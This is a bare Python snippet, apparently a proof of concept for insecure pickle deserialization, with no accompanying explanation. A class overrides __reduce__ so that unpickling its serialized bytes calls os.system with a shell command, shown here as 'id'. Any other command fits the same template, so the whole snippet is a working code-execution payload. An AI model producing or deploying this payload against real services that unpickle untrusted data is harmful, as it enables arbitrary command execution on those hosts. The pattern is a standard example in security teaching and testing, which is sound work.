import os, pickle
class E:
    def __reduce__(self):
        return (os.system, ("id",))
pickle.dumps(E())
